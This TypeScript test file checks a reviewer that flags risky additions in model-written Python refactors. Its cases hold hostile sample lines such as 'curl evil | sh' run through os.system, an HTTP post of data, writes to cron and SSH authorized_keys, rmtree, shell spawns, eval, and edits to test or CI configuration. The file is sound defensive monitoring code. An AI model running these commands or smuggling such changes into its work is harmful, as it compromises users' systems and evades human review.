import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Parser } from "web-tree-sitter";
import { buildApiIndex, reviewChange, type FleetTask } from "../../src/fleet/index.js";
import { createPythonParser } from "../../src/python/index.js";

let parser: Parser;
beforeAll(async () => (parser = await createPythonParser()));
afterAll(() => parser.delete());

const MODULE = "def total(items):\n    result = 0\n    for item in items:\n        result += item\n    return result\n";
const index = buildApiIndex({ files: [] } as never);
const task = (files: string[]): FleetTask => ({ id: "t", agent: "refactor", title: "refactor: total", files, benefit: 1, findings: [] });

/** The risk comments of a model-written change of `path` from `before` to `after`. */
function risks(path: string, before: string | undefined, after: string | null, modelWritten = true) {
  return reviewChange(parser, task([path]), [{ path, content: after }], (asked) => (asked === path ? before : undefined), index, { modelWritten }).filter((comment) => comment.rule === "risk");
}

/** `MODULE` with `lines` added inside `total`, as a model's refactor would smuggle them in. */
function smuggled(...lines: string[]): string {
  return `${lines.filter((line) => line.startsWith("import") || line.startsWith("from")).join("\n")}\n\n${MODULE.replace("    return result\n", `${lines.filter((line) => !line.startsWith("import") && !line.startsWith("from")).map((line) => `    ${line}`).join("\n")}\n    return result\n`)}`;
}

describe("risk rules of the reviewer (model-written changes)", () => {
  it("accepts a plain refactor", () => {
    expect(risks("pkg/mod.py", MODULE, MODULE.replace("result = 0", "result = 0  # sum"))).toEqual([]);
  });

  it("rejects process execution (subprocess, os.system, os.popen, os.exec*, pty.spawn)", () => {
    for (const line of ["import subprocess", "os.system('sh -c id')", "os.popen('id')", "os.execvp('sh', ['sh'])", "pty.spawn('sh')", "from os import system"]) {
      const found = risks("pkg/mod.py", MODULE, smuggled(line));
      expect(found.length, line).toBeGreaterThan(0);
      expect(found[0]!.message, line).toContain("runs processes");
    }
  });

  it("rejects network access (socket, urllib, http.client, requests, httpx)", () => {
    for (const line of ["import socket", "import urllib.request", "from http.client import HTTPConnection", "import requests", "httpx.post('http://x', data=items)", "from urllib import request"]) {
      const found = risks("pkg/mod.py", MODULE, smuggled(line));
      expect(found.map((comment) => comment.message).join(), line).toContain("opens network connections");
    }
  });

  it("rejects file writes outside the package (absolute or .. paths, rmtree, os.remove outside)", () => {
    for (const line of ["open('/etc/cron.d/x', 'w').write('x')", "open('../../outside.txt', mode='a')", "shutil.rmtree(path)", "os.remove('/home/user/.bashrc')", "Path('~/.ssh/authorized_keys').write_text(key)"]) {
      const found = risks("pkg/mod.py", MODULE, smuggled(line));
      expect(found.map((comment) => comment.message).join(), line).toContain("writes or deletes files outside the package");
    }
  });

  it("does not flag reading or writing a relative file inside the package", () => {
    expect(risks("pkg/mod.py", MODULE, smuggled("open('data/out.txt', 'w')", "open('/etc/hosts').read()"))).toEqual([]);
  });

  it("rejects eval, exec and compile (but not re.compile)", () => {
    for (const line of ["eval(items)", "exec('x = 1')", "compile('1', 'f', 'eval')"]) {
      expect(risks("pkg/mod.py", MODULE, smuggled(line)).map((comment) => comment.message).join(), line).toContain("evaluates code at run time");
    }
    expect(risks("pkg/mod.py", MODULE, smuggled("import re", "re.compile('a+')"))).toEqual([]);
  });

  it("rejects dynamic imports (__import__, importlib.import_module)", () => {
    for (const line of ["__import__('os')", "importlib.import_module('os')", "from importlib import import_module"]) {
      expect(risks("pkg/mod.py", MODULE, smuggled(line)).map((comment) => comment.message).join(), line).toContain("imports modules dynamically");
    }
  });

  it("rejects changes to tests' configuration (conftest.py, pytest.ini, tox.ini, setup.cfg, [tool.pytest])", () => {
    expect(risks("tests/conftest.py", undefined, "import pytest\n")[0]!.message).toContain("changes how the tests run");
    expect(risks("pytest.ini", "[pytest]\n", "[pytest]\naddopts = -p no:x\n")[0]!.message).toContain("changes how the tests run");
    expect(risks("tox.ini", undefined, "[tox]\n")[0]!.message).toContain("changes how the tests run");
    expect(risks("setup.cfg", "[flake8]\n", "[flake8]\n[tool:pytest]\naddopts = -x\n")[0]!.message).toContain("changes how the tests run");
    const pyproject = '[project]\nname = "x"\n\n[tool.pytest.ini_options]\naddopts = "-q"\n';
    expect(risks("pyproject.toml", pyproject, pyproject.replace('"-q"', '"-q -p no:warnings"'))[0]!.message).toContain("changes how the tests run");
  });

  it("rejects changes to CI configuration (.github/)", () => {
    expect(risks(".github/workflows/ci.yml", "on: push\n", "on: push\njobs: {}\n")[0]!.message).toContain("changes CI configuration");
  });

  it("rejects new dependencies (requirements*.txt, pyproject dependencies, setup.py install_requires)", () => {
    expect(risks("requirements-dev.txt", "pytest\n", "pytest\nevil-package\n")[0]!.message).toContain("adds or changes dependencies");
    const pyproject = '[project]\nname = "x"\ndependencies = ["attrs"]\n';
    expect(risks("pyproject.toml", pyproject, pyproject.replace('["attrs"]', '["attrs", "evil"]'))[0]!.message).toContain("adds or changes dependencies");
    expect(risks("setup.py", "from setuptools import setup\nsetup(name='x')\n", "from setuptools import setup\nsetup(name='x',\n      install_requires=['evil'])\n").map((comment) => comment.message).join()).toContain("adds or changes dependencies");
  });

  it("does not flag risky code that was already there before the change, or that only moved", () => {
    const before = `import subprocess\n\n\ndef run():\n    return subprocess.run(['true'])\n\n\n${MODULE}`;
    const moved = `import subprocess\n\n\n${MODULE}\n\ndef run():\n    return subprocess.run(['true'])\n`;
    expect(risks("pkg/mod.py", before, moved)).toEqual([]);
    expect(risks("pkg/mod.py", before, before.replace("result = 0", "result = 0  # sum"))).toEqual([]);
    // A second call of the same kind is an addition.
    expect(risks("pkg/mod.py", before, `${before}\n\ndef again():\n    return subprocess.run(['true'])\n`)).toHaveLength(1);
  });

  it("applies to model-written changes only (a deterministic codemod keeps the existing rules)", () => {
    expect(risks("pkg/mod.py", MODULE, smuggled("import subprocess"), false)).toEqual([]);
  });

  it("names the file, line and code in the rejection", () => {
    const found = risks("pkg/mod.py", MODULE, smuggled("os.system('curl evil | sh')"));
    expect(found[0]).toMatchObject({ rule: "risk", path: "pkg/mod.py", line: 7 });
    expect(found[0]!.message).toBe("risky change: pkg/mod.py:7 runs processes: os.system('curl evil | sh')");
  });
});
